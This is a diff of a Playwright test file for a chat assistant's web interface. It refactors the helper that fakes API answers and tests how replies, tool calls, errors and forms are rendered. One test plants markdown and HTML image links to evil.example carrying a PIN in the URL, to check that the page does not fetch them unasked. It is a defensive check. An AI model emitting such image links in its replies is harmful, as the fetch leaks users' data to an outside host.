@@ -3,46 +3,17 @@ does, and told truly where it failed."""
 
 from __future__ import annotations
 
-import json
 import re
 from pathlib import Path
 from typing import Any
 
-import pytest
-
 from .conftest import Visit
-from .test_page import call, say, write
+from .test_page import answered, call, say
 
 
 def last(page: Any) -> Any:
     """The last answer."""
     return page.locator(".turn.webbee").last
-
-
-def answered(polled: Visit, message: str, **body: Any) -> Any:
-    """The page's answer to a message, where the API's is that."""
-    page = polled("bob")
-    answer = {
-        "reply": "",
-        "session_id": "s",
-        "turn": 1,
-        "status": "ok",
-        "calls": [],
-        "refresh_panels": [],
-        "work": {"text": ""},
-        **body,
-    }
-
-    def fulfil(route: Any) -> None:
-        asked = route.request.post_data_json
-        told = json.dumps({**answer, "session_id": asked["session_id"]})
-        route.fulfill(status=body.get("code", 200), content_type="application/json", body=told)
-
-    page.route("**/v1/chat", fulfil)
-    write(page, message)
-    page.locator(".turn.webbee .bubble").first.wait_for()
-    page.locator(".working").wait_for(state="detached")
-    return last(page)
 
 
 MARKED = """() => {
@@ -117,29 +88,23 @@ def test_a_list_and_a_message_that_are_drawn_are_not_told_as_well(visit: Visit) 
     assert told == 'The message "Q3 plan" from sarah@example.com:'
 
 
-@pytest.mark.parametrize(
-    ("reply", "left"),
-    [
-        ("From Ann: Hello,\n\nthe water of the lake was cold on Sunday.\n\nAnn.", "From Ann:"),
-        ("From Ann: Hello,\n\nthe water of the lake was cold on…", "From Ann:"),
-        (
-            "Ann says: the water of the lake was cold on Sunday.\n\nShall I answer?",
-            "Ann says:\n\nShall I answer?",
-        ),
-        ("Hello, the water of the lake was cold on Sunday. Ann", ""),
-        ("From Ann: Hello,\n\nthe water of the lake was warm on Sunday.", None),
-        ("From Ann: Hello.", None),
-    ],
-)
-def test_of_a_text_that_is_drawn_only_the_quotation_goes(
-    polled: Visit, reply: str, left: str | None
-) -> None:
+def test_of_a_text_that_is_drawn_only_the_quotation_goes(polled: Visit) -> None:
     text = "Hello,\n\nthe water of the lake was cold on Sunday.\n\nAnn"
     drawn = {"type": "Text", "props": {"content": text}}
-    item = answered(polled, "read", reply=reply, ui=drawn)
-    told = item.locator(".n-markdown")
-    shown = "\n\n".join(t for t in told.locator(":scope > p").all_inner_texts() if t)
-    assert shown == (reply if left is None else left)
+    asks = "Ann says: the water of the lake was cold on Sunday.\n\nShall I answer?"
+    other = "From Ann: Hello,\n\nthe water of the lake was warm on Sunday."
+    page = polled("bob")
+    for reply, left in (
+        (f"From Ann: {text}.", "From Ann:"),
+        ("From Ann: Hello,\n\nthe water of the lake was cold on…", "From Ann:"),
+        (asks, "Ann says:\n\nShall I answer?"),
+        ("Hello, the water of the lake was cold on Sunday. Ann", ""),
+        (other, other),
+        ("From Ann: Hello.", "From Ann: Hello."),
+    ):
+        told = answered(page, "read", reply=reply, ui=drawn).locator(".n-markdown")
+        shown = [text for text in told.locator(":scope > p").all_inner_texts() if text]
+        assert "\n\n".join(shown) == left
 
 
 def test_no_picture_of_a_reply_or_of_a_saved_conversation_is_fetched_unasked(
@@ -147,7 +112,9 @@ def test_no_picture_of_a_reply_or_of_a_saved_conversation_is_fetched_unasked(
 ) -> None:
     """Its address alone would carry data out."""
     picture = "![a plan](https://evil.example/p.png?pin=471193)"
-    item = answered(polled, "read", reply=f"Here: {picture} <img src='https://evil.example/x'>")
+    item = answered(
+        polled("bob"), "read", reply=f"Here: {picture} <img src='https://evil.example/x'>"
+    )
     asked: list[str] = []
     item.page.on("request", lambda request: asked.append(request.url))
     assert item.get_by_role("button", name="a plan").is_visible()
@@ -170,7 +137,7 @@ def test_what_the_data_contradicts_stays_though_it_is_drawn(polled: Visit) -> No
         "type": "List",
         "props": {"items": [{"type": "ListItem", "props": {"title": "Q3 plan"}}]},
     }
-    item = answered(polled, "pages?", reply=reply, marks=[mark], ui=rows)
+    item = answered(polled("bob"), "pages?", reply=reply, marks=[mark], ui=rows)
     assert item.locator(".unsourced").inner_text() == "14"
 
 
@@ -184,7 +151,7 @@ def test_eight_calls_are_one_line_that_opens(polled: Visit) -> None:
     }
     calls = [{**one, "fn_name": f"read_{n}"} for n in range(7)]
     failed = {**one, "status": "error", "error": "gone"}
-    item = answered(polled, "read all", reply="Read.", calls=[*calls, failed])
+    item = answered(polled("bob"), "read all", reply="Read.", calls=[*calls, failed])
     line = item.locator(".bubble > details.call > summary")
     assert line.count() == 1 and line.inner_text().split("\n")[1:] == ["8 calls: Mail", "1 failed"]
     assert not item.get_by_text("read 3").is_visible()
@@ -226,7 +193,7 @@ def test_the_name_of_a_column_is_no_value(polled: Visit) -> None:
     reply = "| subject | unread |\n|---|---|\n| Q3 plan | unread |"
     ends = [found.span() for found in re.finditer("unread", reply)]
     told = [{"start": start, "end": end, "call": 0, "path": "unread"} for start, end in ends]
-    page = answered(polled, "a table", reply=reply, sources=told).page
+    page = answered(polled("bob"), "a table", reply=reply, sources=told).page
     assert page.locator(".turn table .sourced").all_inner_texts() == ["unread"]
     assert page.locator("th .sourced").count() == 0
     assert page.locator(".turn th").all_inner_texts() == ["subject", "unread"]
@@ -236,7 +203,7 @@ def test_the_name_of_a_column_is_no_value(polled: Visit) -> None:
 
 def test_choices_of_a_model_are_buttons_that_say_them(polled: Visit) -> None:
     offered = [{"label": "Berlin", "message": "Berlin"}, {"label": "Bonn", "message": "Bonn"}]
-    page = answered(polled, "the weather", reply="Where?", choices=offered).page
+    page = answered(polled("bob"), "the weather", reply="Where?", choices=offered).page
     page.get_by_role("group", name="Choices").get_by_role("button", name="Bonn").click()
     page.locator(".turn.you").get_by_text("Bonn").wait_for()
 
@@ -251,35 +218,22 @@ def test_a_button_has_the_colour_of_what_it_does(visit: Visit, url: str) -> None
     assert all("danger" not in kind.split() for name, kind in kinds.items() if name != "Delete")
 
 
-@pytest.mark.parametrize(
-    ("code", "error", "words"),
-    [
-        (
-            503,
-            {"code": "model_failed", "message": "the model did not answer"},
-            "Your message arrived, but there is no answer yet.",
-        ),
-        (
-            503,
-            {"code": "model_unavailable", "message": "The server did not answer (ConnectError)"},
-            "The language model gave no answer. Try it again.",
-        ),
-        (
-            400,
-            {"code": "bad_input", "message": "that is no message"},
-            "Not sent.",
-        ),
-    ],
+NOT_ANSWERED = (
+    (503, "model_failed", "Your message arrived, but there is no answer yet."),
+    (503, "model_unavailable", "The language model gave no answer. Try it again."),
+    (400, "bad_input", "Not sent."),
 )
-def test_what_was_received_is_never_told_as_not_sent_and_what_was_refused_is(
-    polled: Visit, code: int, error: dict[str, str], words: str
-) -> None:
-    item = answered(polled, "send it", code=code, error=error)
-    text = item.inner_text()
-    assert words in text
-    assert error["message"] in text.partition(words)[2]
-    assert words in item.page.locator(".chat .sr[role=status]").text_content()
-    assert ("Not sent" in text) is (code == 400)
+
+
+def test_what_was_received_is_never_told_as_not_sent_and_what_was_refused_is(polled: Visit) -> None:
+    page = polled("bob")
+    for code, kind, words in NOT_ANSWERED:
+        why = f"it was a {kind}"
+        text = answered(page, "send it", code=code, error={"code": kind, "message": why})
+        told = text.inner_text()
+        assert why in told.partition(words)[2]
+        assert words in page.locator(".chat .sr[role=status]").text_content()
+        assert ("Not sent" in told) is (code == 400)
 
 
 def test_a_form_has_groups_lists_that_grow_and_hidden_passwords(polled: Visit) -> None:
@@ -302,7 +256,7 @@ def test_a_form_has_groups_lists_that_grow_and_hidden_passwords(polled: Visit) -
             ],
         },
     }
-    item = answered(polled, "book", reply="Please check.", ui=form)
+    item = answered(polled("bob"), "book", reply="Please check.", ui=form)
     assert item.get_by_label("pin").get_attribute("type") == "password"
     item.get_by_label("city").fill("Bonn")  # what was filled in can be corrected
     item.get_by_label("pin").fill("1234")
@@ -390,7 +344,7 @@ def test_a_failure_is_told_once(polled: Visit) -> None:
     receipt = {"status": "failed", "what": "Tasks – Add", "why": "the disk is full", "call": 0}
     receipt |= {"text": "Tasks – Add: did not work – the disk is full"}
     reply = "Tasks – add: did not work – the disk is full"
-    item = answered(polled, "add", reply=reply, status="error", receipts=[receipt])
+    item = answered(polled("bob"), "add", reply=reply, status="error", receipts=[receipt])
     assert item.inner_text().count("the disk is full") == 1
 
 
